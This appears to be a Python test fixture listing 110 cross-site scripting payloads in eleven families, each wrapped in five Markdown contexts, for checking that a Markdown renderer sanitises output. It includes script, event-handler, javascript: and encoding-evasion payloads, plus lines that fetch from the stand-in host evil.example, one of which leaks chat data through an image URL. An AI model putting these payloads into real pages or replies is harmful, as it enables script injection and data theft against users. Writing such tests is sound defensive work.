r"""Hostile messages: eleven families of ten, each in five places of a Markdown text.

What runs in any of them sets window.__ran; what fetches anything asks EVIL.
"""

RUN = "window.__ran=1"
EVIL = "https://evil.example"

_FAMILIES: dict[str, tuple[str, ...]] = {
    "script": (
        f"<script>{RUN}</script>",
        f"<SCRIPT\n>{RUN}</SCRIPT\t>",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<script src={EVIL}/x.js></script>",
        f'"></div></article></section><script>{RUN}</script>',
        f"'--></style></title></textarea><script>{RUN}</script>",
        f"<![CDATA[><script>{RUN}</script>]]>",
        f'<noscript><p title="</noscript><script>{RUN}</script>">',
        f"<script type=module>import '{EVIL}/m.js'</script>",
        f"<template shadowrootmode=open><script>{RUN}</script></template>",
    ),
    "image": (
        f"<img src=x onerror={RUN}>",
        f'<img/src="x"/onerror="{RUN}"//',
        f"<img srcset='{EVIL}/a.png 1x, x 2x' onerror={RUN}>",
        f"<picture><source srcset={EVIL}/b.png><img src={EVIL}/c.png></picture>",
        f"![alt]({EVIL}/d.png?chat=secret)",
        f'![" onerror={RUN} x="]({EVIL}/e.png "t\' onload=\'{RUN}")',
        f"![x](javascript:{RUN})",
        f"![x](data:image/svg+xml,<svg/onload={RUN}>)",
        f"<video poster={EVIL}/p.png><source onerror={RUN} src=x></video>",
        f"<audio src=x onerror={RUN} autoplay></audio><input type=image src=x onerror={RUN}>",
    ),
    "frame": (
        f"<iframe src=javascript:{RUN}></iframe>",
        f'<iframe srcdoc="<script>parent.{RUN[7:]}</script>"></iframe>',
        f"<object data={EVIL}/o.html></object>",
        f"<embed src={EVIL}/e.swf>",
        f"<base href={EVIL}/><a href=x>y</a>",
        f'<meta http-equiv=refresh content="0;url={EVIL}/">',
        f"<link rel=stylesheet href={EVIL}/s.css>",
        f"<style>@import '{EVIL}/i.css'; * {{ background: url({EVIL}/b.png) }}</style>",
        f"<form action={EVIL}/f><input name=a autofocus onfocus={RUN}><button>x</button></form>",
        f"<div style='background:url({EVIL}/u.png)' onmouseover={RUN} data-act=clear>x</div>",
    ),
    "link": (
        f"[x](javascript:{RUN})",
        f"[x](JaVaScRiPt&colon;{RUN})",
        f"[x](\x01javascript:{RUN})",
        f"[x](<java\tscript:{RUN}>)",
        f"[x](data:text/html,<script>{RUN}</script>)",
        f"[x](vbscript:{RUN})",
        f"[x](java&#115;cript:{RUN} 'a\" onclick=\"{RUN}')",
        f'[x](https://a" onmouseover="{RUN})',
        f"<javascript:{RUN}> <data:text/html;base64,PHNjcmlwdD4=>",
        f"[x](file:///etc/passwd) [y](blob:https://x/y) [z](view-source:javascript:{RUN})",
    ),
    "svg": (
        f"<svg onload={RUN}>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><a xlink:href=javascript:{RUN}><text y=9>x</text></a></svg>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
        f"<svg><foreignObject><iframe src=javascript:{RUN}></iframe></foreignObject></svg>",
        f"<svg><image href={EVIL}/i.png onerror={RUN} /></svg>",
        f"<svg><set attributeName=onmouseover to={RUN}></svg>",
        f"<svg><style><img src=x onerror={RUN}></style></svg>",
        f"<svg><desc><![CDATA[</desc><script>{RUN}</script>]]></svg>",
    ),
    "formula": (
        f"$\\href{{javascript:{RUN}}}{{x}}$",
        f"$\\text{{<img src=x onerror={RUN}>}}$",
        f"$$\\text{{</math><script>{RUN}</script>}}$$",
        f"\\(\\unicode{{x3c}}img src=x onerror={RUN}>\\)",
        f"\\[\\style{{background:url({EVIL}/s.png)}}{{x}}\\]",
        f'$\\class{{x" onmouseover="{RUN}}}{{y}}$',
        f"$\\includegraphics{{{EVIL}/g.png}} \\url{{javascript:{RUN}}}$",
        f"$\\newcommand{{\\a}}{{<script>{RUN}</script>}}\\a$",
        f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph>",
        f"<math href=javascript:{RUN}><maction actiontype=statusline xlink:href=x>y</maction>",
    ),
    "mermaid": (
        f'```mermaid\ngraph TD; A["<img src=x onerror={RUN}>"]\n```',
        f'```mermaid\ngraph TD; A-->B; click A href "javascript:{RUN}"\n```',
        f"```mermaid\ngraph TD; A-->B; click A call {RUN}\n```",
        f"```mermaid\n%%{{init: {{'securityLevel': 'loose'}}}}%%\n<script>{RUN}</script>\n```",
        f"```mermaid\nsequenceDiagram\nA->>B: <iframe src=javascript:{RUN}></iframe>\n```",
        f"<pre class=mermaid>graph TD; A[<svg onload={RUN}>]</pre>",
        f"<div class=mermaid>%%{{init: {{'themeCSS': '*{{background:url({EVIL})}}'}}}}%%</div>",
        f"```mermaid\nclassDiagram\nclass A {{ <img src={EVIL}/k.png> }}\n```",
        f"~~~mermaid onload={RUN}\npie title <svg/onload={RUN}>\n~~~",
        f"```mermaid\n---\nconfig: {{htmlLabels: true}}\n---\nA[`<svg onload={RUN}>`]\n```",
    ),
    "entity": (
        f"&lt;img src=x onerror={RUN}&gt;",
        f"&#60;script&#62;{RUN}&#60;/script&#62;",
        f"&#x3c;svg onload={RUN}&#x3e;",
        f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
        f"&#0000060img src=x onerror={RUN}&#0000062",
        f"&quot;&gt;&lt;script&gt;{RUN}&lt;/script&gt;",
        f"\\<script>{RUN}\\</script>",
        f"%3Cscript%3E{RUN}%3C/script%3E \\u003cscript\\u003e{RUN}",
        f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \u02c2img src=x onerror={RUN}\u02c3",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    ),
    "nested": (
        f"[![<img src=x onerror={RUN}>]({EVIL}/n.png)](javascript:{RUN})",
        f"[a][b]\n\n[b]: javascript:{RUN} '\" onclick={RUN}'",
        f'[a]\n\n[a]: {EVIL}/"onmouseover="{RUN} (<script>{RUN}</script>)',
        f"[<b onclick={RUN}>x](https://a/`<script>{RUN}</script>`)",
        f"**<img **src=x** onerror={RUN}>** ~~<script>~~{RUN}</script>",
        f"`<script>`{RUN}`</script>` ``<svg onload={RUN}>``",
        f'https://a/<script>{RUN}</script> https://a/"onclick="{RUN}',
        f"[[[x](javascript:{RUN})](data:text/html,y)](vbscript:{RUN})",
        f'<a href="`>`<img src=x onerror={RUN}>">x</a>',
        f"[x](https://a (t\"><script>{RUN}</script>)) <https://a/'onload={RUN}>",
    ),
    "fence": (
        f'```"><script>{RUN}</script>\ncode\n```',
        f"```html onload={RUN}\n<script>{RUN}</script>\n```",
        f"~~~'onmouseover='{RUN}\n</code></pre><script>{RUN}</script>\n~~~",
        f"```svg\n<svg onload={RUN}>\n```",
        f"```&quot;&gt;<img src=x onerror={RUN}>\nx\n```",
        f"```javascript\n{RUN}\n```\n</pre><script>{RUN}</script>",
        f"    <script>{RUN}</script>",
        f"```constructor\n__proto__ <img src=x onerror={RUN}>\n```",
        f"${{{RUN}}} `${{{RUN}}}` {{{{{RUN}}}}} {{{{{{<script>{RUN}</script>}}}}}} <%= {RUN} %>",
        "{{#with this}}{{lookup . 'constructor'}}{{/with}} @children ${value}",
    ),
    "control": (
        f"<scr\0ipt>{RUN}</scr\0ipt>",
        f"<\0script>{RUN}</script>",
        f"<img\0src=x\0onerror={RUN}>",
        f"[x](java\0script:{RUN})",
        f"\u202e>tpircs/<1=nar__.wodniw>tpircs<\u202c <script>{RUN}</script>",
        f"\u2066<img src=x \u2067onerror={RUN}>\u2069",
        f"<\u200bscript>{RUN}</script> [x](\u200bjavascript:{RUN})",
        f"\ufeff<svg\x0conload={RUN}> <img\x0bsrc=x\x1fonerror={RUN}>",
        f"[x](javascript\u2028:{RUN}) \u2029<script>{RUN}</script>",
        f"\x1b]8;;javascript:{RUN}\x07x\x1b]8;;\x07 \x85<script>{RUN}</script>",
    ),
}


def _quoted(text: str) -> str:
    return "> " + text.replace("\n", "\n> ")


def _listed(text: str) -> str:
    return "- **a**\n- " + text.replace("\n", "\n  ")


def _in_table(text: str) -> str:
    return f"| a | b |\n|:-:|---|\n| {text.replace(chr(10), ' ')} | c |"


def _cut_fence(text: str) -> str:
    """In code that is never closed, as when a reply breaks off."""
    return f"```html\n{text}"


PLACES = (str, _quoted, _listed, _in_table, _cut_fence)
PAYLOADS = {
    family: [place(text) for text in texts for place in PLACES]
    for family, texts in _FAMILIES.items()
}
